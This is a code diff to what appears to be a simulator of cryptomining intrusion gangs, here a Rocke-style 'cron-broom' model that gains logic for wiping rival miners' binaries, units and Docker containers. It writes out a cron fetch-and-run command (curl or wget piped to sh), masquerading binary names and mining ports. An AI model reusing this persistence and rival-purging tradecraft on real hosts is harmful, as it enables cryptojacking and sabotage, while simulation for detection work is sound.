@@ -3,10 +3,12 @@ import { hideProcess, spread } from '../../gangs/steps/settle-in.ts'
 import { XMRIG_AGENT } from '../../network/cryptonote.ts'
 import { OFFICE_CLIENT } from '../../network/ssh-bytes.ts'
 import { MINUTE_MS } from '../../schedule.ts'
+import { removeContainers } from './containers.ts'
 import { drawn, drawnKey, LOWER, publicPool } from './draw.ts'
 import { byCron, type Work } from './jobs.ts'
-import { killByPattern, killByPort, PRELOAD, unhide } from './oust.ts'
+import { killByPattern, killByPort, PRELOAD, removeBinaries, unhide } from './oust.ts'
 import { bring, bringMiner, startIfIdle } from './settle.ts'
+import { blackhole, disableUnits } from './shut-out.ts'
 
 const RIVALS = [
   'xmr',
@@ -24,6 +26,9 @@ const RIVALS = [
 ]
 const BINARIES = ['java', 'khugepageds', 'kthrotlds', 'kerberods', 'sshd2'] as const
 
+/** Chance, each time it finds others, that it leaves them nothing to come back with. */
+const UPROOTS = { low: 0.1, medium: 0.25, high: 0.5 }
+
 /** After Rocke: leaves nothing but a line for cron; each run sweeps the host, brings what is missing and starts it. */
 export const cronBroom: GangModel = {
   name: 'cron-broom',
@@ -32,7 +37,7 @@ export const cronBroom: GangModel = {
     const binary = random.pick(BINARIES)
     const path = `${random.pick(['/tmp', '/var/tmp', '/usr/local/bin', '/dev/shm'])}/${binary}`
     const wallet = places.wallet()
-    const [ip, host] = [places.server(), places.name()]
+    const [ip, site] = [places.server(), places.name()]
     const page = `/raw/${random.text(8, LOWER)}`
     const script = `/tmp/.${random.text(5, LOWER)}`
     const everyMs = random.pick([5, 10, 15, 30]) * MINUTE_MS
@@ -40,10 +45,19 @@ export const cronBroom: GangModel = {
     const sweeps = { low: 0.6, medium: 0.8, high: 1 }[skill]
     const library = `/usr/local/lib/lib${random.pick(['ioset', 'jdk', 'cset', 'pamcd'])}.so`
     const sweep: Work = function* (foothold) {
-      const order = foothold.random
+      const { host, gang, random: order } = foothold
+      const isShared = host.miners.some((miner) => miner.gang !== gang)
       if (!(yield* bring(foothold, page, script, { what: 'script' }))) return
       if (order.chance(sweeps)) {
         if (order.chance(0.4)) yield* unhide(foothold)
+        if (isShared && order.chance(UPROOTS[skill])) {
+          yield* removeBinaries(foothold)
+          yield* disableUnits(foothold)
+          if (order.chance(0.6)) yield* blackhole(foothold)
+        }
+        if (isShared && order.chance(0.5)) {
+          yield* removeContainers(foothold, 'docker')
+        }
         yield* killByPattern(foothold, drawn(order, RIVALS, 0.85))
         if (order.chance(0.7)) yield* killByPort(foothold, [2222, 3333, 5555, 7029, 10_128, 10_300, 13_333])
       }
@@ -67,7 +81,7 @@ export const cronBroom: GangModel = {
         },
         sources: [places.source(), places.source()],
         client: OFFICE_CLIENT,
-        download: { ip, name: host, paths: [page, `/${binary}`] },
+        download: { ip, name: site, paths: [page, `/${binary}`] },
         control: null,
         key: random.chance(0.3) ? drawnKey(random, 'root@localhost') : null,
         waysIn: random.chance(0.5)
@@ -85,7 +99,7 @@ export const cronBroom: GangModel = {
           : []
         const own = `/var/spool/cron/crontabs/${hands.user.name}`
         const fields = `*/${everyMs / MINUTE_MS} * * * *`
-        const command = `(curl -fsSL ${host}${page}||wget -q -O- ${host}${page})|sh`
+        const command = `(curl -fsSL ${site}${page}||wget -q -O- ${site}${page})|sh`
         yield* byCron(foothold, { place: own, line: `${fields} ${command}`, everyMs }, sweep)
         for (const place of places2)
           yield* byCron(
